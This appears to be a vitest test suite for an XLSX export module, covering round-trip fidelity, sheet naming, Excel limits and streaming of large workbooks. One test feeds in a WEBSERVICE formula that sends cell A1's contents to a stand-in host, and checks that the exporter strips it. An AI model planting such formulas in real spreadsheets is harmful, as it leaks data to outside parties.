import { randomBytes } from 'node:crypto';
import { readdir, readFile as readBytes } from 'node:fs/promises';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { readXlsx as readByHucre } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import { plainExportOptions } from '../../../../src-shared/exports.ts';
import { type Cell, type Grid, GridBuilder } from '../../../../src-shared/grid.ts';
import { parseValue } from '../../../../src-shared/value.ts';
import { readFile } from '../../files/readFile.ts';
import type { ExportTable } from '../exportDocument.ts';
import { documentOf } from '../material.ts';
import { documentWith, gridOf, holderOf, sheetsOf, tableOf, written } from '../testDocuments.ts';
import { Writing } from '../writing.ts';
import { writeXlsx } from './xlsx.ts';

const samples = join(import.meta.dirname, '../../../../resources/samples');

/** Line ends are read as one kind, and a cell of blanks as a blank one. */
function asRead(text: string): string {
  return parseValue(text).kind === 'blank' ? '' : text.toWellFormed().replaceAll(/\r\n?/g, '\n');
}

async function exported(grids: readonly Grid[], name = 'book.xlsx') {
  const material = { kind: 'sheets', sheets: sheetsOf(grids), holder: holderOf(name, grids) } as const;
  return written(documentOf(material, 'xlsx'), 'xlsx');
}

/** What a cell is and how it looks; a number format that it had no need of is left out. */
function faceOf(cell: Cell, original: Cell | undefined): unknown {
  const { address, text, value, rowSpan, colSpan, style } = cell;
  const { numberFormat, ...look } = style ?? {};
  const isWanted = original?.style?.numberFormat !== undefined;
  return { address, text, value, rowSpan, colSpan, look, ...(isWanted && { numberFormat }) };
}

function facesOf(grid: Grid | undefined, original: Grid | undefined = grid): unknown[] {
  const originals = [...(original?.cells() ?? [])];
  return [...(grid?.cells() ?? [])].map((cell, place) => faceOf(cell, originals[place]));
}

describe('a workbook that comes back', () => {
  test('is cell by cell as it was, with its merges, formats, widths and what is hidden', async () => {
    // The long list among them would tell nothing more, and takes its time.
    const names = (await readdir(samples)).filter((name) => name.endsWith('.xlsx') && name !== 'order-lines.xlsx');
    expect(names.length).toBeGreaterThan(4);
    for (const name of names) {
      const { grids } = await readFile(await readBytes(join(samples, name)), name);
      const { bytes } = await exported(grids, name);
      const back = (await readFile(bytes, name)).grids;
      // After the sheets stands the one with evidence.
      expect(back.map((grid) => grid.name)).toEqual([...grids.map((grid) => grid.name), 'Evidence']);
      for (const [place, grid] of grids.entries()) {
        expect(facesOf(back[place], grid)).toEqual(facesOf(grid));
        const { columnWidths, rowHeights, hiddenRows, hiddenColumns } = grid.data.meta;
        expect(back[place]?.data.meta).toMatchObject({
          ...(columnWidths && { columnWidths }),
          ...(rowHeights && { rowHeights }),
          ...(hiddenRows && { hiddenRows }),
          ...(hiddenColumns && { hiddenColumns }),
        });
      }
    }
  });

  test('is the same to another reader: values, merges, number formats', async () => {
    const { grids } = await readFile(await readBytes(join(samples, 'sales-by-quarter.xlsx')), 'sales.xlsx');
    const { bytes } = await exported(grids);
    const [sheet] = (await readByHucre(bytes, { readStyles: true })).sheets;
    const [grid] = grids;
    for (const cell of grid?.cells() ?? []) {
      const { value } = cell;
      const wanted = value.kind === 'number' ? value.number : cell.text || null;
      expect(sheet?.rows[cell.row]?.[cell.col] ?? null).toBe(wanted);
    }
    const merged = [...(grid?.cells() ?? [])].filter(({ rowSpan, colSpan }) => rowSpan * colSpan > 1);
    expect(sheet?.merges?.length).toBe(merged.length);
    expect(merged.length).toBeGreaterThan(3);
  });

  test('shows numbers and dates of a text file as the file did', async () => {
    const rows = [
      ['12.5 %', '€1,200.50', '(1,234)', '-$5', '+7', '$1,000', '5元', '0.50'],
      [
        '2024-01-31',
        '3/4/2024',
        '17 Oct 2024',
        '2021年02月01日',
        '2019-12-04 00:00:00',
        '2024-05-06 07:08',
        'Mar 2016',
        '31.12.1999',
      ],
      ['−95', '–6.5', '−€3', '+0.5'],
      ['TRUE', '007', '-', '12:30', 'plain', '-0.5', '.5', '1,000,000'],
    ];
    const grid = gridOf('Looks', rows);
    const { bytes, notes } = await exported([grid], 'looks.csv');
    const [back] = (await readFile(bytes, 'looks.xlsx')).grids;
    expect([...(back?.cells() ?? [])].map(({ text, value }) => [text, value])).toEqual(
      [...grid.cells()].map(({ text, value }) => [text, value]),
    );
    expect(notes).toEqual([]);
  });

  test('says so where a look cannot be kept, and keeps the value', async () => {
    const grid = gridOf('Looks', [["1'250", '27th August 2020', '1e-5', '1.200,5', 'true', 'Last']]);
    const { bytes, notes } = await exported([grid]);
    const [back] = (await readFile(bytes, 'looks.xlsx')).grids;
    expect([...(back?.cells() ?? [])].map(({ value }) => value)).toEqual([...grid.cells()].map(({ value }) => value));
    expect(notes).toEqual(['5 values look otherwise than in the source; what they are is kept.']);
  });

  test('holds any text as it is', async () => {
    const text = fc.oneof(
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
      fc.constantFrom(
        '_x0041_',
        '_x000d_',
        ' a ',
        'a\nb',
        'a\r\nb',
        '\t',
        '\u0001\u007f',
        '__x005F_',
        '\ud800',
        "='x'!A1",
      ),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 30 }), async (texts) => {
        const { bytes } = await written(documentWith(tableOf(texts.map((each) => [each, 'end']))), 'xlsx');
        const [back] = (await readFile(bytes, 'texts.xlsx')).grids;
        expect(texts.map((_, row) => back?.at(row, 0)?.text ?? '')).toEqual(texts.map(asRead));
      }),
      { numRuns: 60 },
    );
  });

  test('holds any arrangement of merges', async () => {
    // Cells of a lattice of blocks, so that no two overlap.
    const sizes = fc.array(fc.integer({ min: 1, max: 4 }), { minLength: 1, maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(sizes, sizes, async (heights, widths) => {
        const builder = new GridBuilder({ name: 'Merges' });
        heights.reduce((row, rowSpan, down) => {
          widths.reduce((col, colSpan, across) => {
            builder.add({ row, col, rowSpan, colSpan, text: `c${down} ${across}`, value: { kind: 'text' } });
            return col + colSpan;
          }, 0);
          return row + rowSpan;
        }, 0);
        const grid = builder.build();
        const { bytes } = await exported([grid]);
        const [back] = (await readFile(bytes, 'merges.xlsx')).grids;
        expect(facesOf(back)).toEqual(facesOf(grid));
      }),
      { numRuns: 40 },
    );
  });
});

describe('what a workbook says besides', () => {
  const source = `${'a'.repeat(64)}/sheet/0`;

  test('evidence stands on a sheet of its own: cell, value, where it was read, what stands there', async () => {
    const citations = [
      { evidence: { kind: 'cells', source, address: 'C8' }, quote: '10 055', note: 'read with 62 % confidence' },
    ] as const;
    const table = tableOf([['Total'], [{ text: '10055', citations }]], {
      title: 'Costs',
      headerRows: 1,
      citations: [{ evidence: { kind: 'cells', source, address: 'A1:F9' } }],
    });
    const { bytes } = await written(documentWith(table), 'xlsx');
    const [, evidence] = (await readFile(bytes, 'evidence.xlsx')).grids;
    const rows = Array.from({ length: 3 }, (_, row) =>
      Array.from({ length: 6 }, (_each, col) => evidence?.at(row, col)?.text ?? ''),
    );
    expect(rows).toEqual([
      ['Sheet', 'Cell', 'Value', 'Source', 'Quote', 'Note'],
      ['Costs', '', '', 'report.xlsx · 0 · A1:F9', '', ''],
      ['Costs', 'A2', '10055', 'report.xlsx · 0 · C8', '10 055', 'read with 62 % confidence'],
    ]);
  });

  test('headers stay in sight, also where rows go on for long', async () => {
    const rows = Array.from({ length: 2001 }, (_, row) => (row === 0 ? ['Name', 'Number'] : [`Item ${row}`, row]));
    const { bytes } = await written(documentWith(tableOf(rows, { headerRows: 1, headerColumns: 1 })), 'xlsx');
    const [sheet] = (await readByHucre(bytes)).sheets;
    expect(sheet?.rows.length).toBe(2001);
    expect(sheet?.freezePane).toMatchObject({ rows: 1, columns: 1 });
  });

  test('texts stand on a sheet of their own, and a document without tables is a workbook all the same', async () => {
    const { bytes } = await written(
      documentWith(
        { kind: 'heading', level: 1, text: 'What was asked?' },
        { kind: 'paragraph', text: 'This.\nAnd that.' },
      ),
      'xlsx',
    );
    const { grids } = await readFile(bytes, 'about.xlsx');
    expect(grids.map(({ name }) => name)).toEqual(['About']);
    expect(grids.map((grid) => [...grid.cells()].map(({ text }) => text))).toEqual([
      ['What was asked?', 'This.\nAnd that.'],
    ]);
  });

  test('names of sheets are made such that Excel takes them, each its own', async () => {
    const names = [
      'Sales [2024]: A/B',
      "'quoted'",
      'x'.repeat(40),
      'x'.repeat(39),
      'History',
      'sales  2024 a b',
      '',
      '?',
    ];
    const tables = names.map((title) => tableOf([['a']], { title }));
    const { bytes } = await written(documentWith(...tables), 'xlsx');
    const { sheets } = await readByHucre(bytes);
    const given = sheets.map(({ name }) => name);
    expect(new Set(given.map((name) => name.toLowerCase())).size).toBe(names.length);
    for (const name of given) {
      expect(name).toMatch(/^[^[\]:*?/\\']{1,31}$/);
      expect(name.toLowerCase()).not.toBe('history');
    }
    expect(given.slice(0, 2)).toEqual(['Sales 2024 A B', 'quoted']);
  });

  test('a text that is too long for a cell is cut and told', async () => {
    const { bytes, notes } = await written(documentWith(tableOf([['y'.repeat(40_000)]])), 'xlsx');
    const [back] = (await readFile(bytes, 'long.xlsx')).grids;
    expect(back?.at(0, 0)?.text.length).toBe(32_767);
    expect(notes).toEqual(['1 text was cut to the 32,767 characters that a cell of Excel holds.']);
  });

  test('days before March 1900 are texts, which is told', async () => {
    const grid = gridOf('Old', [['1899-12-31', '1900-03-01']]);
    const { bytes, notes } = await exported([grid]);
    const [back] = (await readFile(bytes, 'old.xlsx')).grids;
    expect([...(back?.cells() ?? [])].map(({ text }) => text)).toEqual(['1899-12-31', '1900-03-01']);
    expect(notes).toEqual(['1 date was written as text: Excel knows none before March 1900.']);
  });

  test('merges that a workbook does not bear are left out, and told', async () => {
    const tall = (at: number) =>
      ({ column: at, text: `merge ${at}`, value: { kind: 'text' }, rowSpan: 600_000 }) as const;
    const table = tableOf([[null, null]], { rowCount: 1, columnCount: 2, rows: () => [{ cells: [tall(0), tall(1)] }] });
    const { notes } = await written(documentWith(table), 'xlsx');
    expect(notes).toEqual(['1 merge was left out: a workbook does not bear so many, or so large ones.']);
  });

  test('formulas are their results, which is told', async () => {
    const table = tableOf([[{ text: '3', formula: "WEBSERVICE('http://x/'&A1)" }]]);
    const { bytes, notes } = await written(documentWith(table), 'xlsx');
    const [back] = (await readFile(bytes, 'formula.xlsx')).grids;
    expect(back?.at(0, 0)).toMatchObject({ text: '3', value: { kind: 'number', number: 3 } });
    expect(back?.at(0, 0)?.formula).toBeUndefined();
    expect(notes).toEqual(['1 formula was written as the last result.']);
  });
});

describe('a large workbook', () => {
  const long = (onRow: (row: number) => void): ExportTable =>
    tableOf([['']], {
      rowCount: 1_000_000,
      rows: function* () {
        for (let row = 0; row < 1_000_000; row++) {
          onRow(row);
          // Such as does not become small in an archive.
          yield { cells: [{ column: 0, text: randomBytes(150).toString('base64'), value: { kind: 'text' } }] };
        }
      },
    });
  const writing = (): Writing => new Writing({ options: plainExportOptions });

  test('goes on with a sheet of its own where Excel has no more rows, under the same headers', async () => {
    const rows = [['Number'], ...Array.from({ length: 25 }, (_, row) => [row])];
    const pieces: Buffer[] = [];
    for await (const piece of writeXlsx(documentWith(tableOf(rows, { headerRows: 1 })), writing(), 10)) {
      pieces.push(Buffer.from(piece));
    }
    const { grids } = await readFile(new Uint8Array(Buffer.concat(pieces)), 'long.xlsx');
    expect(grids.map(({ name }) => name)).toEqual(['Table', 'Table (2)', 'Table (3)']);
    expect(grids.map((grid) => [...grid.cells()].map(({ text }) => text))).toEqual([
      ['Number', ...Array.from({ length: 9 }, (_, row) => String(row))],
      ['Number', ...Array.from({ length: 9 }, (_, row) => String(row + 9))],
      ['Number', ...Array.from({ length: 7 }, (_, row) => String(row + 18))],
    ]);
  });

  test('is made no faster than it is taken, and ends when nobody wants it any more', async () => {
    let made = 0;
    const stream = writeXlsx(documentWith(long((row) => (made = row))), writing());
    await stream.next();
    let then = -1;
    // It goes on until what waits is as much as may wait.
    while (made > then) {
      then = made;
      await new Promise((resolve) => setTimeout(resolve, 300));
    }
    expect(made).toBeGreaterThan(1000);
    expect(made).toBeLessThan(100_000);
    await stream.return(undefined);
    const left = made;
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(made).toBe(left);
  });

  test('lets go of where its rows come from, however it ends', async () => {
    let open = 0;
    const table = (rows: number): ExportTable =>
      tableOf([['']], {
        rows: function* () {
          open++;
          try {
            for (let row = 0; row < rows; row++) {
              yield { cells: [{ column: 0, text: 'x', value: { kind: 'text' } }] };
              const unreadable = {
                column: 0,
                value: { kind: 'text' } as const,
                get text(): string {
                  throw new Error('unreadable');
                },
              };
              if (row === 20) yield { cells: [unreadable] };
            }
          } finally {
            open--;
          }
        },
      });
    for (const format of ['xlsx', 'latex', 'markdown', 'csv'] as const) {
      await expect(written(documentWith(table(30)), format)).rejects.toThrow('unreadable');
      expect(open).toBe(0);
    }
  });

  test('fails as its rows do', async () => {
    const table = tableOf([['']], {
      rows: function* () {
        yield { cells: [] };
        throw new Error('no more rows');
      },
    });
    await expect(written(documentWith(table), 'xlsx')).rejects.toThrow('no more rows');
  });
});
